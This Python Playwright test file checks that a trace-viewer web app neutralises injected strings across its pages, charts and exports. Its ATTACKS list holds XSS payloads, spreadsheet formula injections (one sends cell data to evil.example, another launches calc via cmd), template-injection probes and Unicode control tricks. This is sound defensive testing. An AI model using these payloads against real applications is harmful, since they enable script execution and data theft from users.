"""A trace whose every string is an attack, through every page, chart and export: nothing runs, nothing breaks."""

from __future__ import annotations

import csv
import gzip
import io
import itertools
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from playwright.sync_api import Browser, Page

from tests.browser.conftest import WATCH, Watched
from tests.browser.furnished import TRACE, answer, upload

pytestmark = pytest.mark.browser

Open = Callable[..., Watched]

ATTACKS = (
    "</script></style></svg></textarea><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(2)">click</a>',
    "javascript:alert(3)//",
    "'\"><svg onload=alert(4)>",
    '" onfocus=alert(5) autofocus tabindex=1 x="',
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "user\u202e)(eman.lenrek\u2066\u200b\ufeff",
    "line\u2028separator\x00\x1b[31m",
    "](http://evil.example) ![x](http://evil.example/x.png) `tick`",
    "<b>bold</b><br>&lt;i&gt;&amp;",
)

# What the reader goes by: without these there is no region to show. All other strings are attacks.
KEPT_KEYS = {"ph", "cat", "bp", "displayTimeUnit", "Input type"}

STARTED = "img[onerror], svg[onload], [onfocus], a[href^='javascript' i], [href*='evil.example'], [src*='evil.example']"


def attacked(source: Path, all_names: bool) -> dict[str, Any]:
    """The trace with every string an attack. all_names: those of operations and steps as well."""
    attacks: Iterator[str] = itertools.cycle(ATTACKS)

    def other(value: Any, key: str) -> Any:
        if isinstance(value, dict):
            return {k: other(v, k) for k, v in value.items()}
        if isinstance(value, list) and key != "Input type":
            return [other(v, key) for v in value]
        return next(attacks) if isinstance(value, str) and key not in KEPT_KEYS else value

    trace = json.loads(gzip.decompress(source.read_bytes()))
    events = []
    for event in trace["traceEvents"]:
        found = {k: other(v, k) for k, v in event.items()}
        name, cat = event.get("name", ""), event.get("cat")
        if not all_names and (cat in ("cpu_op", "cuda_runtime", "cuda_driver") or name.startswith("ProfilerStep")):
            found["name"] = name
            found["args"] = event.get("args", {})
        elif cat == "python_function":
            # The shape of a frame, so that it is taken for one: file(line): function, nn.Module: name.
            found["name"] = re.sub(r"[^():]+", lambda _: next(attacks), name, count=1)
        elif cat == "kernel":
            found["name"] = f"{next(attacks)} {name[:40]}"
        found["pid"], found["tid"] = event.get("pid"), event.get("tid")
        events.append(found)
    return {**{k: other(v, k) for k, v in trace.items() if k != "traceEvents"}, "traceEvents": events}


DRAWN_FROM_ELSEWHERE = """all => all.map(i => i.href.baseVal).filter(where => !where.startsWith("data:image/png;"))"""
"""A heat map is a picture that Plotly paints itself; any other picture is somebody's."""


def settled(page: Page, path: str) -> None:
    """Opens a page with everything in it unfolded; holds it to the names being text."""
    page.goto(path)
    page.wait_for_load_state("networkidle")
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })")
    assert page.locator("h1").count() == 1, path
    assert page.locator(STARTED).count() == 0, path
    assert page.locator(".plot a, .plot foreignObject").count() == 0, path
    assert page.eval_on_selector_all(".plot image", DRAWN_FROM_ELSEWHERE) == [], path
    text = page.locator("body").inner_text()
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\ufeff\u2028\x1b]", text), path
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path


@pytest.mark.parametrize("all_names", [False, True])
def test_nothing_runs_on_any_page(open_page: Open, data: Path, server: str, tmp_path: Path, all_names: bool) -> None:
    path = tmp_path / (ATTACKS[0].replace("/", "") + ".json")
    path.write_text(json.dumps(attacked(data / "traces" / TRACE, all_names)), encoding="utf-8")
    trace = upload(server, path)
    assert ATTACKS[0][:20].replace("/", "") in trace["name"]
    watched = open_page()
    page = watched.page
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    settled(page, f"/traces/{trace['id']}")
    assert "onerror=alert(1)" in page.locator("h1").inner_text()
    if not all_names:
        assert len([r for r in trace["regions"] if r["text"]]) >= 5
        # The names are there to be seen, as they are.
        assert "alert(" in page.locator("table").first.locator("xpath=ancestor::main").inner_text()
    paths = [f"/compare?a={trace['id']}&b={trace['id']}", "/history", "/", "/compare"]
    for region in trace["regions"]:
        paths.append(f"/regions/{region['id']}?tab=all")
        if region["text"]:
            paths.append(f"/regions/{region['id']}/triton")
    written = next((r["id"] for r in trace["regions"] if r["text"]), None)
    if written:
        paths += [f"/regions/{written}/devices?device=NVIDIA%20A100", f"/learn?region={written}#rule"]
    for path in paths:
        settled(page, path)
    assert dialogs == []
    assert watched.hosts == {server.removeprefix("http://")}


def test_nothing_runs_from_an_address_or_a_text(open_page: Open) -> None:
    watched = open_page()
    watched.expected = (422, 404)
    page = watched.page
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    for attack in ATTACKS:
        body = attack.replace("\x00", "")
        for path in ("/region?", "/learn?", "/compare?", "/?"):
            names = ("text", "a", "b", "region", "device", "kind", "bound", "example", "candidate")
            query = page.evaluate("(pairs) => new URLSearchParams(pairs).toString()", [[n, body] for n in names])
            page.goto(path + query)
            assert page.locator(STARTED).count() == 0
    assert dialogs == []


def test_every_export_is_harmless(chromium: Browser, data: Path, server: str, tmp_path: Path) -> None:
    """The files that a user keeps: JSON, the report, a kernel's replay; and each format of a check."""
    body = json.dumps(attacked(data / "traces" / TRACE, all_names=False)).encode()
    source = tmp_path / "attack.json"
    source.write_bytes(body)
    trace = upload(server, source)
    written = next(r for r in trace["regions"] if r["text"])
    kept = {"trace.html": f"/traces/{trace['id']}/report.html", "region.html": f"/regions/{written['id']}/report.html"}
    check = answer(f"{server}/api/v1/checks?wait=60", json.dumps({"traces": [trace["id"]]}).encode())
    kept |= {f"check.{s}": f"/api/v1/checks/{check['id']}.{s}" for s in ("html", "csv", "md", "json", "sarif", "xml")}
    context = chromium.new_context(base_url=server)
    try:
        for name, path in kept.items():
            response = context.request.get(path)
            assert response.ok, (path, response.text()[:300])
            (tmp_path / name).write_bytes(response.body())
    finally:
        context.close()
    for name in ("trace.html", "region.html", "check.html"):
        opens_offline(chromium, tmp_path / name)
    for row in csv.reader(io.StringIO((tmp_path / "check.csv").read_text(encoding="utf-8"))):
        assert not [cell for cell in row if cell[:1] in tuple("=@+\t\r") or re.match(r"-[^\d]", cell)]
    markdown = (tmp_path / "check.md").read_text(encoding="utf-8")
    rendered = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    assert not re.search(r"<(img|script|svg|a)\b", rendered)
    for name in kept:
        assert "\u202e" not in (tmp_path / name).read_text(encoding="utf-8"), name


def opens_offline(chromium: Browser, path: Path) -> None:
    """The file opens from the disk without a request, an error or a script that runs."""
    context = chromium.new_context(offline=True)
    errors: list[str] = []
    requests: list[str] = []
    try:
        page = context.new_page()
        page.add_init_script(WATCH)
        page.on("console", lambda m: errors.append(m.text))
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.on("dialog", lambda d: (errors.append(d.message), d.dismiss()))
        page.on("request", lambda r: requests.append(r.url))
        page.goto(path.as_uri())
        page.wait_for_load_state("networkidle")
        assert page.locator("h1").count() == 1
        assert page.locator(f"script, form, {STARTED}").count() == 0
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert requests == [path.as_uri()]
        assert errors == []
    finally:
        context.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_report_is_saved_by_its_button_and_opens_offline(
    open_page: Open, chromium: Browser, data: Path, server: str, tmp_path: Path, scheme: str
) -> None:
    trace = upload(server, data / "traces" / TRACE)
    page = open_page(color_scheme=scheme, accept_downloads=True).page
    written = next(r for r in trace["regions"] if r["text"])
    for number, address in enumerate((f"/traces/{trace['id']}", f"/regions/{written['id']}")):
        page.goto(address)
        with page.expect_download() as saved:
            page.get_by_role("link", name="Report").click()
        assert saved.value.suggested_filename.endswith(".html")
        path = tmp_path / f"{number}.html"
        saved.value.save_as(path)
        opens_offline(chromium, path)
        assert path.stat().st_size < 400_000
